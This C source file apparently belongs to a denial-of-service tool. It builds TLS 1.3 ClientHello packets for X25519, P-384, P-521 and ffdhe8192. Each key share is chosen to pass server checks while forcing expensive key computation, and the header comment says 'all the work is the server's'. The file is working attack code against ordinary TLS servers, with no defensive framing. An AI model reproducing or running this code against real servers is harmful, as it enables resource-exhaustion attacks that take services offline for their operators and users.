/* A TLS 1.3 ClientHello (RFC 8446, 4.1.2) with one key share: all the work is the server's. */

#include "attack.h"

#include <string.h>

#define LARGEST_SHARE 1024

static char *put(char *to, const void *data, size_t length)
{
    memcpy(to, data, length);
    return to + length;
}

static char *put16(char *to, size_t value)
{
    const char bytes[] = {(char)(value >> 8), (char)value};
    return put(to, bytes, sizeof bytes);
}

static size_t hello(char *data, size_t group, const void *share, size_t length)
{
    const size_t extensions = 7 + 8 + 12 + 10 + length;
    const size_t body = 2 + 32 + 1 + 4 + 2 + 2 + extensions;
    char random[32];
    for (size_t i = 0; i < sizeof random; i++)
        random[i] = (char)chance();
    char *to = put(data, "\x16\x03\x01", 3);
    to = put16(to, body + 4);
    to = put(to, "\x01\x00", 2);
    to = put16(to, body);
    to = put(to, "\x03\x03", 2);
    to = put(to, random, sizeof random);
    to = put(to, "\x00" "\x00\x02\x13\x01" "\x01\x00", 7);                       /* AES-128-GCM, SHA-256 */
    to = put16(to, extensions);
    to = put(to, "\x00\x2b\x00\x03\x02\x03\x04", 7);                             /* TLS 1.3 */
    to = put(to, "\x00\x0a\x00\x04\x00\x02", 6);                                 /* groups */
    to = put16(to, group);
    to = put(to, "\x00\x0d\x00\x08\x00\x06\x04\x03\x08\x04\x04\x01", 12);        /* ECDSA, RSA-PSS, RSA */
    to = put(to, "\x00\x33", 2);                                                 /* key shares */
    to = put16(to, length + 6);
    to = put16(to, length + 4);
    to = put16(to, group);
    to = put16(to, length);
    to = put(to, share, length);
    return (size_t)(to - data);
}

size_t hello_x25519(struct stream *stream, char *data)
{
    (void)stream;
    return hello(data, 0x001d, "\x09\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 32);
}

/* The share is the curve's generator: a server refuses a point that is not on the curve without computing. */
size_t hello_p384(struct stream *stream, char *data)
{
    (void)stream;
    return hello(data, 0x0018,
                 "\x04"
                 "\xaa\x87\xca\x22\xbe\x8b\x05\x37\x8e\xb1\xc7\x1e\xf3\x20\xad\x74\x6e\x1d\x3b\x62\x8b\xa7"
                 "\x9b\x98\x59\xf7\x41\xe0\x82\x54\x2a\x38\x55\x02\xf2\x5d\xbf\x55\x29\x6c\x3a\x54\x5e\x38"
                 "\x72\x76\x0a\xb7"
                 "\x36\x17\xde\x4a\x96\x26\x2c\x6f\x5d\x9e\x98\xbf\x92\x92\xdc\x29\xf8\xf4\x1d\xbd\x28\x9a"
                 "\x14\x7c\xe9\xda\x31\x13\xb5\xf0\xb8\xc0\x0a\x60\xb1\xce\x1d\x7e\x81\x9d\x7a\x43\x1d\x7c"
                 "\x90\xea\x0e\x5f",
                 97);
}

size_t hello_p521(struct stream *stream, char *data)
{
    (void)stream;
    return hello(data, 0x0019,
                 "\x04"
                 "\x00\xc6\x85\x8e\x06\xb7\x04\x04\xe9\xcd\x9e\x3e\xcb\x66\x23\x95\xb4\x42\x9c\x64\x81\x39"
                 "\x05\x3f\xb5\x21\xf8\x28\xaf\x60\x6b\x4d\x3d\xba\xa1\x4b\x5e\x77\xef\xe7\x59\x28\xfe\x1d"
                 "\xc1\x27\xa2\xff\xa8\xde\x33\x48\xb3\xc1\x85\x6a\x42\x9b\xf9\x7e\x7e\x31\xc2\xe5\xbd\x66"
                 "\x01\x18\x39\x29\x6a\x78\x9a\x3b\xc0\x04\x5c\x8a\x5f\xb4\x2c\x7d\x1b\xd9\x98\xf5\x44\x49"
                 "\x57\x9b\x44\x68\x17\xaf\xbd\x17\x27\x3e\x66\x2c\x97\xee\x72\x99\x5e\xf4\x26\x40\xc5\x50"
                 "\xb9\x01\x3f\xad\x07\x61\x35\x3c\x70\x86\xa2\x72\xc2\x40\x88\xbe\x94\x76\x9f\xd1\x66\x50",
                 133);
}

size_t hello_ffdhe8192(struct stream *stream, char *data)
{
    char share[LARGEST_SHARE] = {1};  /* below the prime */
    (void)stream;
    for (size_t i = 1; i < sizeof share; i++)
        share[i] = (char)chance();
    return hello(data, 0x0104, share, sizeof share);
}
